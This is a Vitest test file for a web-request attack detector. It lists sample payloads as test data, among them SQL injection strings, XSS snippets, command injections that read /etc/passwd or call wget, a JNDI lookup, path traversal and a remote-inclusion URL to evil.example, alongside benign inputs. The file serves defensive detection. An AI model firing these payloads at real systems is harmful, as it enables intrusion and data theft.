import { describe, expect, it } from 'vitest';
import { requestSigns, valueSigns } from './request-signs.ts';

describe('a value', () => {
  it.each([
    ["1' or '1'='1", 'sql-injection'],
    ["x'; drop table users --", 'sql-injection'],
    ['1 union/**/select password from users', 'sql-injection'],
    ['%2527%2520or%25201%253D1--', 'sql-injection'],
    ['1 and sleep(5)', 'sql-injection'],
    ['<script>alert(1)</script>', 'cross-site-scripting'],
    ['"><img src=x onerror=alert(1)>', 'cross-site-scripting'],
    ['javascript:alert(1)', 'cross-site-scripting'],
    ['; cat /etc/passwd', 'command-injection'],
    ['$(wget http://x)', 'command-injection'],
    ['${jndi:ldap://x/a}', 'command-injection'],
    ['../../../../etc/passwd', 'path-traversal'],
    ['..%2f..%2fboot.ini', 'path-traversal'],
    ['" or ""="', 'sql-injection'],
    ['{"$ne": null}', 'sql-injection'],
    ['*)(uid=*))(|(uid=*', 'sql-injection'],
    ['{{7*7}}', 'command-injection'],
    ['php://filter/resource=index.php', 'remote-inclusion'],
  ])('%s is %s', (value, sign) => {
    expect(valueSigns(value)).toContain(sign);
  });

  it.each([
    "O'Reilly and sons",
    'select a gift from the shop',
    'tom & cat',
    'cat food',
    'ping pong; table tennis',
    'union square select hotel',
    'a <b and c> d',
    'wait... what?',
    '3 or 4 people',
    "rock 'n' roll",
    'C++ && C#',
    'https://example.com/path?x=1',
    'price < 100 and price > 5',
    'learn javascript: the basics',
    '$(document).ready',
    'a `word` in ticks',
    '{"name":"O\'Brien"}',
    '{{ user.name }}',
    'drop table lamp',
    'Müller & Söhne',
  ])('%s is nothing', (value) => {
    expect(valueSigns(value)).toEqual([]);
  });

  it('of any length is looked at in no time', () => {
    const began = performance.now();
    for (const piece of ["' or ", '../', '<script ', '((((', 'select ', '/**/', '%25'])
      expect(Array.isArray(valueSigns(piece.repeat(100_000)))).toBe(true);
    expect(performance.now() - began).toBeLessThan(3_000);
  });
});

describe('a request', () => {
  it.each([
    ['GET //phpMyAdmin-2.8.2.3/scripts/setup.php', 'probe'],
    ['GET /.env', 'probe'],
    ['GET /~root/', 'probe'],
    ['GET /wp-login.php?action=register', 'probe'],
    ['GET /cgi-bin/.%2e/.%2e/bin/sh', 'path-traversal'],
    ['GET /item?id=1%20or%201=1', 'sql-injection'],
    ['GET /a?page=http://evil.example/x.txt?', 'remote-inclusion'],
  ])('%s is a %s', (action, sign) => {
    expect(requestSigns(action)).toContain(sign);
  });

  it('by a tool of attackers is one', () => {
    expect(requestSigns('GET /', 'sqlmap/1.7')).toEqual(['attack-tool']);
  });

  it.each([
    'GET /images/../logo',
    'GET /cart?id=3&sort=price',
    'GET /mailing-list/2026',
    'GET /search?q=how+to+select+from+a+list',
  ])('%s is nothing, or what a browser would have resolved', (action) => {
    expect(requestSigns(action).filter((sign) => sign !== 'path-traversal')).toEqual([]);
  });
});
